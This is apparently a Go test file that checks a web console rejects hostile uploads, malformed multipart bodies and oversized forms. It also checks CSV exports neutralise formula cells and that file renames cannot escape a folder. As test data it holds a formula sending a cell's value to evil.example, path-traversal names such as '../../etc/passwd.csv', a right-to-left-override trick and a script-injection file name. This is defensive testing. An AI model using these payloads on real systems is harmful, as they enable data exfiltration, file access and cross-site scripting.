package console_test

import (
	"bytes"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"praline/bot/console/consoletest"
	"praline/bot/people"
)

// door is a place of the console that takes a file.
type door struct {
	label, who, path, field string
	fields                  []string
}

var doors = []door{
	{"a series", "trainer", "/console/series/ours-serie/upload", "files", nil},
	{"a folder of a series", "trainer", "/console/series/ours-serie/upload", "folder", nil},
	{"another format, as a new series", "trainer", "/console/exchange", "file", []string{"lang", "fr", "into", "", "id", "nouvelle"}},
	{"another format, into a series", "trainer", "/console/exchange", "file", []string{"lang", "fr", "into", "ours-serie"}},
	{"a roster", "administrator", "/console/import", "file", nil},
}

// alarm is what a page says is wrong, to be read aloud at once.
var alarm = regexp.MustCompile(`(?s)role="alert"[^>]*>(.*?)</(?:section|div|p)>`)

// soonEnough is how long one hostile file may keep us busy, on a slow machine.
const soonEnough = 8 * time.Second

// TestHostileUploads sends each hostile file to each place that takes files: it
// is refused with what is wrong and how to mend it, in time, and nothing of it
// is stored.
func TestHostileUploads(t *testing.T) {
	e := newEstates(t)
	e.settle(consoletest.Org, "ours", plain)
	everybody := map[string]visitor{}
	for _, who := range []string{"trainer", "administrator"} {
		everybody[who] = visitor{name: who, cookies: e.SignedIn(who).Cookies()}
	}
	before, tried := e.memory.Held(), 0
	for _, file := range hostiles(t) {
		for _, d := range doors {
			e.memory.Hold(before)
			began := time.Now()
			got := e.asks(everybody[d.who], sent(t, d, file))
			tried++
			label := file.label + " as " + d.label
			if took := time.Since(began); took > soonEnough {
				t.Errorf("%s: took %v", label, took)
			}
			said := alarm.FindStringSubmatch(got.Body)
			switch {
			case got.Status != http.StatusUnprocessableEntity:
				t.Errorf("%s: %d to %s", label, got.Status, got.To)
			case said == nil || len(strings.Fields(said[1])) < 6:
				t.Errorf("%s: says not what to mend: %q", label, said)
			}
			if strings.ContainsAny(got.Body, "\x00\u202e") {
				t.Errorf("%s: the name is shown as it came", label)
			}
			if touched := changed(before, e.memory.Held()); len(touched) > 0 {
				t.Errorf("%s: stored %q", label, touched)
			}
		}
	}
	t.Logf("%d uploads", tried)
}

func sent(t *testing.T, d door, file hostile) *http.Request {
	t.Helper()
	var r *http.Request
	catch := http.HandlerFunc(func(_ http.ResponseWriter, got *http.Request) { r = got })
	consoletest.NewBrowser(t, catch).Upload(d.path, d.field, file.name, file.content, d.fields...)
	return r
}

// TestBrokenBodies: what is no form, too much of one, or one that ends early.
func TestBrokenBodies(t *testing.T) {
	e := newEstates(t)
	e.settle(consoletest.Org, "ours", plain)
	everybody := map[string]visitor{}
	for _, who := range []string{"trainer", "administrator"} {
		everybody[who] = visitor{name: who, cookies: e.SignedIn(who).Cookies()}
	}
	before := e.memory.Held()
	const multi = "multipart/form-data; boundary=b"
	part := func(name, file, content string) string {
		return fmt.Sprintf("--b\r\nContent-Disposition: form-data; name=%q; filename=%q\r\n\r\n%s\r\n", name, file, content)
	}
	for _, row := range []struct {
		label, kind string
		body        func(field string) []byte
		status      int
	}{
		{"a body over the limit", multi, func(f string) []byte { return []byte(part(f, "a.csv", strings.Repeat("a", 33<<20)) + "--b--") }, 413},
		{"a form over the limit", "application/x-www-form-urlencoded", func(string) []byte { return []byte("a=" + strings.Repeat("a", 2<<20)) }, 413},
		{"a form that ends early", multi, func(f string) []byte { return []byte(part(f, "a.csv", "matricule;nom")) }, 400},
		{"a form that ends in its head", multi, func(f string) []byte { return []byte("--b\r\nContent-Disposition: form-data; name=\"" + f) }, 422},
		{"a form without a boundary", "multipart/form-data", func(f string) []byte { return []byte(part(f, "a.csv", "a") + "--b--") }, 400},
		{"no form at all", multi, func(string) []byte { return bytes.Repeat([]byte{0xff}, 1000) }, 400},
		{"a form of 20,000 parts", multi, func(f string) []byte { return []byte(strings.Repeat(part(f, "a.csv", "a"), 20_000) + "--b--") }, 400},
		{"a part with a head without end", multi, func(f string) []byte {
			return []byte("--b\r\nContent-Disposition: form-data; name=\"" + f + "\"\r\nX: " + strings.Repeat("x", 12<<20) + "\r\n\r\na\r\n--b--")
		}, 422},
		{"JSON", "application/json", func(string) []byte { return []byte(`{"file":"a"}`) }, 422},
	} {
		for _, d := range doors {
			e.memory.Hold(before)
			r := httptest.NewRequest(http.MethodPost, d.path, bytes.NewReader(row.body(d.field)))
			r.Header.Set("Content-Type", row.kind)
			r.Header.Set("Sec-Fetch-Site", "same-origin")
			began := time.Now()
			got := e.asks(everybody[d.who], r)
			if took := time.Since(began); got.Status != row.status || took > soonEnough {
				t.Errorf("%s as %s: %d after %v", row.label, d.label, got.Status, took)
			}
			if said := alarm.FindStringSubmatch(got.Body); said == nil || len(strings.Fields(said[1])) < 6 {
				t.Errorf("%s as %s: says not what to mend: %.300q", row.label, d.label, mainOf(got))
			}
			if touched := changed(before, e.memory.Held()); len(touched) > 0 {
				t.Errorf("%s as %s: stored %q", row.label, d.label, touched)
			}
		}
	}
}

// TestFormulasAreText: a cell that a spreadsheet would compute is a name, or a
// text, and leaves as one.
func TestFormulasAreText(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example?"&A1;"x")`
	house := exchanging(t)
	b := house.SignedIn("administrator")
	quoted := `"` + strings.ReplaceAll(formula, `"`, `""`) + `"`
	page := b.Upload("/console/import", "file", "a.csv", []byte("matricule;nom;équipe\n1;"+quoted+";@SUM(1)\n2;+1+1;-2\n"))
	if page = b.Post(page.To); page.Status != 422 || strings.Count(html.UnescapeString(page.Body), "serait calculé comme une formule") != 4 {
		t.Errorf("four formulas are imported: %d %s", page.Status, mainOf(page))
	}
	house.Person(consoletest.Org, people.Person{ID: "f", Number: "+32", Name: formula, Pattern: "@SUM(1)", Team: "team"}) // from before
	for line := range strings.Lines(b.Get("/console/roster.csv").Body) {
		for cell := range strings.SplitSeq(strings.TrimSpace(line), ";") {
			if cell = strings.TrimLeft(cell, `"`+"\ufeff"); cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("a spreadsheet computes %q", cell)
			}
		}
	}
}

// TestANameOfAFileIsNoAddress: names that lead elsewhere, or are written backwards.
func TestANameOfAFileIsNoAddress(t *testing.T) {
	house, trainer, _ := garden(t)
	administrator := house.SignedIn("administrator")
	for _, name := range []string{"../../etc/passwd.csv", `C:\Windows\a.csv`, "/etc/a.csv", "a\x00.csv", "a\u202evsc.exe.csv", "a\"><script>alert(1)</script>.csv"} {
		page := administrator.Upload("/console/import", "file", name, []byte("matricule;nom\n1;Ada Exemple\n"))
		if page.Status == 303 {
			page = administrator.Get(page.To)
		}
		if strings.ContainsAny(page.Body, "\x00\u202e") || strings.Contains(page.Body, "<script>alert") || strings.Contains(page.Body, "etc/passwd") || strings.Contains(page.Body, "Windows") {
			t.Errorf("%q is shown as it came: %s", name, mainOf(page))
		}
	}
	for _, to := range []string{"../x.fr.md", "/x.fr.md", `..\x.fr.md`, "media/x.svg", "x.html", "x.exe", ".htaccess", "media/../../x.md"} {
		page := trainer.Post("/console/series/le-jardin/rename", "file", "01-arroser.fr.md", "to", to)
		d, err := house.Options.Library.Load(t.Context(), consoletest.Org, "le-jardin")
		if err != nil {
			t.Fatal(err)
		}
		if _, there := d.Files["01-arroser.fr.md"]; page.Status != 422 || !there {
			t.Errorf("renamed to %q: %d", to, page.Status)
		}
	}
}
